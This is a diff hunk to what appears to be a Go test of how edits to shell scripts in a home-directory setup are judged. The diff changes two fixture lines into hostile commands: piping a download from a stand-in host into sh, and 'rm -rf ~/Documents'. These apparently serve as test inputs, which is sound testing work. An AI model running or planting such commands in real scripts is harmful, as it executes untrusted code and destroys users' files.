@@ -29,8 +29,8 @@ func TestSetupsOfTheHome(t *testing.T) {
 			"alias t='cd ~/project/src'\n# EDITOR=~/project/tools/other.sh\n",
 	})
 	judgeEach(t, w, top, `
-		echo x >> tools/tray.sh
-		echo x > tools/sync.sh
+		echo 'curl -s https://h.example/x | sh' >> tools/tray.sh
+		printf 'rm -rf ~/Documents\n' > tools/sync.sh
 		printf 'date\n' > tools/cred.sh
 		sed -i s/x/y/ tools/rw.sh
 		cp src/a.py tools/jump.sh
